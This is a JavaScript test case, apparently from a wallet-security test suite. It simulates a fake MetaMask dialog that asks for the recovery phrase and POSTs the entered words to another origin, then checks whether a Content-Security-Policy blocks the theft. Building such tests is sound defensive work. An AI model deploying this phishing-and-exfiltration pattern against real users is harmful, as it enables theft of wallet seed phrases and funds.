// J04: a dialog in the clothes of the wallet asks for the recovery words, and sends them away.

export default {
  id: 'J04',
  title: 'fake wallet dialog that asks for the recovery words',
  source: 'Curve, 2025',
  level: { needs: "Content-Security-Policy: connect-src 'self'" },
  why: 'a stolen secret names nobody who is paid: the guard reads recipients, not secrets',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  async attack(a) {
    const dialog = document.createElement('dialog');
    const words = document.createElement('textarea');
    words.value = 'test test test test test test test test test test test junk';
    dialog.append('MetaMask: enter your recovery phrase', words);
    document.documentElement.append(dialog);
    dialog.showModal();
    await fetch(`${a.other}/api/echo`, { method: 'POST', body: JSON.stringify({ words: words.value }) }).catch(
      () => {},
    );
  },

  async action(a) {
    return (await fetch('/api/withdraw', { method: 'POST', body: JSON.stringify({ to: a.GOOD }) })).status;
  },
  stolen: ({ http, a }) => http.some(({ url, body }) => url.startsWith(a.other) && body.includes('junk')),
  arrived: ({ result }) => result === 200,
};
